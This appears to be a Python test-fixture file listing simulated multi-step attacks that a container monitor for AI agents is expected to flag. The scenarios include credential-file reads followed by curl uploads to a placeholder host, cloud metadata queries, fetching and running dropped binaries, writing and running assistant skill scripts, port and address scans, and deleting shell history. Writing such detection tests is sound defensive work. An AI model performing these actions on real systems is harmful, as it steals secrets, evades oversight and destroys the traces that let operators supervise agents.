"""Attacks of several steps: rules/stories/. Each is a process tree of its own."""

from __future__ import annotations

from support.attacks.attack import SHELL, UPPER, Attack

__all__ = ["ATTACKS"]

ATTACKS = (
    Attack(
        "secret-then-upload",
        'open("/root/.npmrc").read(); run("/opt/bin/curl", "-T", "x", "https://drop.example")',
        {"Secret read, then an upload tool in the same process tree": "/bin/true"},
        "curl",
    ),
    Attack(
        "many-secrets",
        'for name in (".npmrc", ".aws/credentials", ".kube/config", ".docker/config.json",'
        ' ".ssh/id_ed25519"):\n    open(f"/root/{name}").read()',
        {"Many secrets read in the same process tree": "/root/.ssh/id_ed25519"},
    ),
    Attack(
        "discovery",
        'for name in ("id", "uname", "hostname", "ps", "whoami"):\n    run(f"/bin/{name}")',
        {"Discovery commands in quick succession below an AI agent": ".*"},
        "whoami",
    ),
    Attack(
        "fetched-then-run",
        'run("/opt/bin/curl", "-o", "/srv/x", "https://drop.example/x"); import shutil\n'
        'shutil.copy("/bin/true", "/srv/dropped"); run("/srv/dropped")',
        {
            "Download tool, then a program that is not in the image": "/srv/dropped",
            UPPER: "/srv/dropped",
        },
        "dropped",
    ),
    Attack(
        "hook-then-run",
        'touch("/root/.claude/skills/x/run.sh", "#!/bin/true\\n");'
        ' os.chmod("/root/.claude/skills/x/run.sh", 0o755); run("/root/.claude/skills/x/run.sh")',
        {
            "Script of an assistant written and then run": "/bin/true",
            "Agent instructions written by another program": "/root/.claude/skills/x/run.sh",
            # One with that of agent.py's hook: the same program of the same container.
            "Hook or skill of an assistant run": "/bin/true",
        },
        "python3|run.sh|pre.sh",
    ),
    Attack(
        "pickle",
        'open("/models/m.pkl").read(); run("/bin/sh", "-c", "exit 0")',
        {
            "Pickle opened, then a shell in the same process tree": "/bin/sh",
            SHELL: "/bin/sh",
        },
        "sh",
    ),
    Attack(
        "weights-then-upload",
        'run("/bin/cp", "/models/tiny.gguf", "/srv/w"); run("/opt/bin/curl", "-T", "/srv/w", "x")',
        {"Model weights read, then an upload tool in the same process tree": "/bin/true"},
        "curl",
    ),
    Attack(
        "metadata-then-upload",
        'socket.create_connection(("169.254.169.254", 80)).close()\n'
        'run("/opt/bin/curl", "-d", "x", "https://drop.example")',
        {"Cloud metadata asked, then an upload tool in the same process tree": "/bin/true"},
        "curl",
    ),
    Attack(
        "ports",
        'for port in range(7001, 7016):\n    socket.socket().connect_ex(("127.0.0.1", port))',
        {"Many ports tried from an AI container": "127.0.0.1:7015"},
    ),
    Attack(
        "addresses",
        "for last in range(1, 31):\n"
        '    one = socket.socket(); one.settimeout(0.05); one.connect_ex((f"10.9.9.{last}", 22))',
        {"Many private addresses tried from an AI container": "10.9.9.30:22"},
    ),
    Attack(
        "names",
        'for number in range(20):\n    resolve("d" * 36 + f"{number:02}.example.com")',
        {"Many long domain names asked for in an AI container": r"d+\d\d.example.com"},
    ),
    Attack(
        "shell-then-traces",
        'run("/bin/sh", "-c", "rm /root/.sh_history")',
        {
            "Shell started by an agent, then traces destroyed": "/root/.sh_history",
            "Log or shell history destroyed in a container": "/root/.sh_history",
        },
        "sh",
    ),
)
